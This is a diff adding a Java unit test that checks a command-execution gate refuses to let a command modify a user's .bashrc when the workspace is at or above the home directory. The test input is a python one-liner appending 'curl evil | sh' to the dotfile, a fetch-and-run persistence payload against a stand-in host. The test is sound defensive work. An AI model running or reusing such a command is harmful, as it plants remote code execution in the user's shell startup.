@@ -287,6 +287,21 @@ class GateTest {
         assertThat(inOdd.stdout()).isEqualTo("odd-content");
     }
 
+    @Test
+    void workspaceAtOrAboveTheUsersHome_isRefused_soDotfilesStayReadOnly() throws Exception {
+        Files.writeString(f.userHome.resolve(".bashrc"), "# rc\n");
+        String line = "python3 -c 'open(\"" + f.userHome.resolve(".bashrc") + "\", \"a\").write(\"curl evil | sh\")'";
+        for (java.nio.file.Path ws : List.of(f.userHome, f.root, java.nio.file.Path.of("/"))) {
+            for (ApprovalMode mode : ApprovalMode.values()) {
+                ExecOutcome o = f.gate().exec(new ExecRequest("user", "cli", line, PathContext.create(ws, f.userHome, f.airlockHome), mode),
+                        new ByteArrayOutputStream(), new ByteArrayOutputStream());
+                assertThat(o.exitCode()).as("%s in %s", mode, ws).isEqualTo(4);
+            }
+        }
+        assertThat(f.userHome.resolve(".bashrc")).hasContent("# rc");
+        assertThat(f.asked).hasValue(0);
+    }
+
     /** An audit log that fails to append one action, as a full disk or a locked database would. */
     record FailingOn(String action, AuditLog real) implements AuditLog {
         @Override
